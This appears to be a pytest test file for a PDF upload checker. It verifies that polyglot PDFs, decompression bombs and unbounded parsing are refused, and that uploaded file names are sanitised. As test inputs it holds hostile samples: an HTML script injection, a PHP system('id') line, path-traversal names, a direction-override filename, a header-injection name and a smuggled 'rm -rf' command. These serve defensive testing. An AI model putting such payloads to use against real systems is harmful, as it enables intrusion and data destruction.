@pytest.mark.parametrize(
    "content",
    [
        PDF + b"<html><script>alert(1)</script></html>",
        PDF + archive(b""),
        PDF + archive(b"%%EOF"),
        PDF.replace(b"trailer", archive(b"") + b"trailer"),
        with_object(stream(b"/Length 200", archive(b"\nendstream endobj trailer << /Root 1 0 R >> %%EOF"))),
        PDF.replace(b"1 0 obj", b"<html><script>alert(1)</script></html>\n1 0 obj"),
        PDF.replace(b"1 0 obj", b"<?php system('id'); ?>\n1 0 obj"),
    ],
    ids=range(7),
)
def test_what_is_another_file_too_is_refused(content: bytes) -> None:
    """A page or an archive within a PDF, before, between or behind its objects."""
    assert outcome(content) in ("broken", "active")


@pytest.mark.parametrize(
    "unit",
    [b">>stream\n", b"/ObjStm stream\n", b"<<>>stream\nendstream\n", b"(", b"()", b"<<", b"[", b"%\n", b"/#41",
     b"1 0 obj\n", b"% 1 0 ", b"%1  ", b"<", b"startxref\n9\n%%EOF\n", b"trailer <<>>\n"],
)  # fmt: skip
def test_reading_takes_as_long_as_a_document_is(unit: bytes) -> None:
    """Twice the bytes are twice the words at most, whatever is repeated."""

    def words(n: int) -> int:
        reading = _Reading(unit * n)
        with suppress(Unfit):
            reading.read()
        return reading.words

    assert words(20_000) <= 2 * words(10_000) + 4


def test_a_document_of_countless_words_or_unpacked_bytes_is_broken() -> None:
    """A bound on each, before they are read."""
    assert "broken" == refusal("a.pdf", with_object(b"2 0 obj << " + b"/a " * 600_000 + b">> endobj\n"))
    assert "broken" == refusal(
        "a.pdf", packed(CATALOG, pack=lambda data: zlib.compress(data + bytes(30_000_000)))
    )


# Names ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.ini", "boot.pdf"),
        ("/abs/olute.pdf", "olute.pdf"),
        ("gpj\u202efdp.exe", "gpj_fdp.pdf"),
        ("a\r\nBcc: x@example.com.pdf", "a_Bcc_ x_example.com.pdf"),
        ("a\x00b.pdf", "a_b.pdf"),
        ('"; rm -rf.pdf', "rm -rf.pdf"),
        ("ใบเสร็จ กันยายน (2).pdf", "ใบเสร็จ กันยายน (2).pdf"),
        ("", "file.pdf"),
        ("....", "file.pdf"),
        (".pdf", "file.pdf"),
        ("ก" * 200 + ".pdf", "ก" * 60 + ".pdf"),
    ],
)
def test_names_are_made_harmless(name: str, kept: str) -> None:
    """No way up, no turned direction, no new line: what is left names a file in a letter."""
    assert kept == inspect(name, PDF).name


@given(st.text(max_size=300))
@example("a\u2028b")
@example("\u0e5c")
@example("\ud800")
def test_no_name_is_dangerous(name: str) -> None:
    """Whatever it was, it is short, printable and ends as its content says."""
    kept = inspect(name, PDF).name

    assert kept.endswith(".pdf")
    assert len(kept) <= 64
    assert not set(kept) & set(string.punctuation.translate(str.maketrans("", "", ".()-_")))
    assert all(c.isprintable() for c in kept)
    assert not kept.startswith((".", " "))
